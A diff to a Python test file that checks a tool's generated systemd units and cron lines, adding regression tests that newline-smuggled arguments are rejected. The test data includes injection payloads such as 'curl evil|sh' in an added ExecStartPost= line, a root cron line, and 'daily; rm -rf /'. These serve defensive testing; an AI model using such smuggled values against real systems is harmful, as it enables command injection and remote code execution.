@@ -19,7 +19,7 @@ ARGV = ("/usr/bin/python3", "-m", "clusterctl.cli.main", "report", "run", "all",
 def test_service_quotes_arguments_and_escapes_systemd_specifiers():
     unit = service_unit(Schedule(ARGV, every_min=5, user="ops"))
     exec_line = next(line for line in unit.splitlines() if line.startswith("ExecStart="))
-    assert "'/srv/report dir'" in exec_line and "'page --msg 100%%$$HOME'" in exec_line
+    assert '"/srv/report dir"' in exec_line and '"page --msg 100%%$$HOME"' in exec_line
     assert "Type=oneshot" in unit and "User=ops" in unit and "SuccessExitStatus=1 2 3" in unit
     assert "OnUnitActiveSec=5min" in timer_unit(Schedule(ARGV, every_min=5))
 
@@ -82,3 +82,26 @@ def test_active_checks_get_their_own_daily_timer_that_systemd_accepts(tmp_path: 
     assert main(["report", "install-timer", "--dry-run", "--on-calendar", "daily; rm -rf /"]) == 3
     err = capsys.readouterr().err
     assert "use one of hourly, daily, weekly" in err and "drift, leak, bench" in err and "calendar" in err
+
+
+@pytest.mark.parametrize("flag,value", [
+    ("--out", "/srv/r\nExecStartPost=/bin/sh -c 'curl evil|sh'"),
+    ("--notify-cmd", "true\rExecStartPost=/bin/id"),
+    ("--textfile", "/t.prom\n* * * * * root /bin/id"),
+    ("--user", "ops\nExecStartPost=/bin/id"),
+    ("--user", "ops; id"),
+    ("--on-calendar", "daily\n"),
+])
+@pytest.mark.parametrize("cron", [False, True])
+def test_a_newline_in_an_argument_never_adds_a_unit_or_cron_line(tmp_path: Path, flag: str, value: str, cron: bool):
+    """Issue 21: a newline in --out/--notify-cmd/--user/... used to add an ExecStartPost= or cron line."""
+    args = ["report", "install-timer", "--unit-dir", str(tmp_path), "--cron-dir", str(tmp_path), flag, value]
+    assert main(args + (["--cron"] if cron else [])) == 3
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_a_backslash_reaches_the_command_as_written():
+    """systemd decodes C escapes inside quotes: ``a\\nb`` must stay a backslash and an n."""
+    unit = service_unit(Schedule(("/bin/true", "a\\nb"), every_min=5))
+    exec_line = next(line for line in unit.splitlines() if line.startswith("ExecStart="))
+    assert exec_line == 'ExecStart=/bin/true "a\\\\nb"'
